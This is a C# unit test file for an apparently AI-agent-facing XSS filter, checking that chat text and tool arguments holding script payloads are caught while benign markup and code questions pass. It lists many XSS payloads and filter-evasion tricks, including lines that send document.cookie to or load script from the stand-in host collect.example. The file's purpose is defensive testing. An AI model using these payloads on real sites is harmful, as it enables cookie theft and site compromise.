using AgentGate.Threats;

namespace AgentGate.Tests.Threats.Html;

public sealed class XssTests
{
    [Theory]
    [InlineData("<script>alert(document.cookie)</script>")]
    [InlineData("<script>alert('XSS')</script>")]
    [InlineData("<img src=x onerror=alert('XSS')>")]
    [InlineData("javascript:alert(1)")]
    [InlineData("<svg onload=alert('XSS')>")]
    [InlineData("<body onload=alert('XSS')>")]
    [InlineData("<iframe src='javascript:alert(1)'>")]
    [InlineData("<details/open/ontoggle=alert(1)>")]
    [InlineData("<script>fetch('https://collect.example/?c='+document.cookie)</script>")]
    [InlineData("<script>onerror=alert;throw 1</script>")]
    [InlineData("<script src=//collect.example/x.js></script>")]
    [InlineData("<a href=\"java\tscript:alert(1)\">x</a>")]
    [InlineData("<a href=javas&#99;ript&colon;alert&lpar;1&rpar;>x</a>")]
    [InlineData("<form action=\"javascript:alert(1)\"><input type=submit>")]
    [InlineData("<svg><animate onbegin=alert(1) attributeName=x dur=1s>")]
    [InlineData("<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">")]
    [InlineData("<object data=\"data:text/html,<b>x</b>\"></object>")]
    [InlineData("<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">")]
    [InlineData("<div style=\"width:expr/**/ession(alert(1))\">")]
    [InlineData("<div style=\"background:u\\72l(java\\73 cript:alert(1))\">")]
    [InlineData("Look at [this](javascript:alert(document.cookie)) when you can")]
    public void Script_that_a_page_would_run_is_caught_in_chat_and_in_arguments(string text) => Judge.Caught(text);

    [Theory]
    [InlineData("';alert(1)//")]
    [InlineData("\\\";alert(1);//")]
    [InlineData("'-alert(1)-'")]
    [InlineData("\" onfocus=alert(1) autofocus x=\"")]
    [InlineData("\"><svg onload=alert(1)>")]
    [InlineData("</script><script>alert(1)</script>")]
    [InlineData("--><img src=x onerror=alert(1)>")]
    [InlineData("500);alert(1);//")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")]
    [InlineData("<math><style></math><img src onerror=alert(1)>")]
    public void What_breaks_out_of_a_value_a_string_or_an_element_is_caught(string text) => Judge.Caught(text);

    [Theory]
    [InlineData("eval(atob('YWxlcnQoMSk='))")]
    [InlineData("top['al'+'ert'](1)")]
    [InlineData("[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]")]
    [InlineData("new Function`alert\\x28\\x31\\x29`")]
    [InlineData("setTimeout('alert(1)',0)")]
    [InlineData("prompt`1`")]
    [InlineData("[1].find(alert)")]
    [InlineData("a\\u006cert(1)")]
    [InlineData("<!--#exec cmd=\"ls\" -->")]
    [InlineData("<base href=\"//collect.example/\">")]
    [InlineData("test<script>@example.com")]
    [InlineData("<div onmadeup=go(1)>")]
    [InlineData("+ADw-script+AD4-alert(1)+ADw-/script+AD4-")]
    [InlineData("&#0000060;b")]
    public void An_argument_may_be_less_sure_of_itself_than_a_conversation(string text) => Judge.CaughtAsArgument(text);

    [Theory]
    [InlineData("a < b and c > d")]
    [InlineData("I <3 you")]
    [InlineData("C# developer")]
    [InlineData("<b>bold</b> and <a href=\"https://example.com\">a link</a>")]
    [InlineData("BLAH <A HREF=\"/FOO.HTML\">FOO</A>")]
    [InlineData("<img src=\"cat.png\" alt=\"cat\">")]
    [InlineData("How do I center a <div> inside another <div>?")]
    [InlineData("1alert(1)")]
    [InlineData("javascript: the good parts is a book")]
    [InlineData("Translate this Python to JavaScript: def add(x, y): return x + y")]
    [InlineData("Please confirm (by mail) that the document is ok")]
    [InlineData("How do I use alert() in JavaScript?")]
    [InlineData("How does `eval` work? eval(\"2+2\") gives 4")]
    [InlineData("weather(location='Paris')")]
    [InlineData("f.write(data)")]
    [InlineData("one=1 only=2 once=3")]
    [InlineData("use `--no-literal-eval` for unquoted `entries`")]
    public void Words_and_plain_markup_are_no_attack(string text) => Judge.Clean(text);

    [Theory]
    [InlineData("My page has <script src=\"app.js\"></script> at the end. Is that right?")]
    [InlineData("In my page <button onclick=\"save()\">Save</button> does nothing. Why?")]
    [InlineData("My component: <button onClick={() => alert('hi')}>Hi</button>")]
    [InlineData("<!DOCTYPE html>\n<html><head>\n<script>\nfunction show() {\n alert('Hello');\n}\n</script>\n</head>\n<body><button onclick=\"show()\">x</button></body></html>")]
    [InlineData("document.getElementById('demo').addEventListener('click', function() { alert('Clicked'); });")]
    [InlineData("foo('bar'); alert('done');")]
    [InlineData("<a href=\"javascript:void(0)\">menu</a> does not scroll to the top")]
    [InlineData("Why is `<iframe src=\"https://example.com\">` refused?")]
    public void Code_that_is_shown_and_asked_about_passes_in_chat(string text) => Judge.CleanInChat(text);

    [Fact]
    public void Markup_is_normal_where_a_tool_declares_it_but_script_is_not()
    {
        Assert.False(Judge.Counts("<h1>Title</h1><p style=\"color:red\">x</p><link rel=stylesheet href=\"https://cdn.example/x.css\">", ThreatContext.Argument, ArgumentKind.Html));
        Assert.True(Judge.Counts("<h1 onclick=\"x()\">Title</h1>", ThreatContext.Argument, ArgumentKind.Html));
        Assert.True(Judge.Counts("<p>x</p><script>go()</script>", ThreatContext.Argument, ArgumentKind.Html));
    }

    [Theory]
    [InlineData("javascript:history.back()")]
    [InlineData("data:text/html,x")]
    public void An_address_that_runs_script_is_no_address(string text)
        => Assert.True(Judge.Counts(text, ThreatContext.Argument, ArgumentKind.Url));

    [Fact]
    public void An_address_of_the_web_is_one() => Assert.False(Judge.Counts("https://example.com/javascript/alert?x=1", ThreatContext.Argument, ArgumentKind.Url));
}
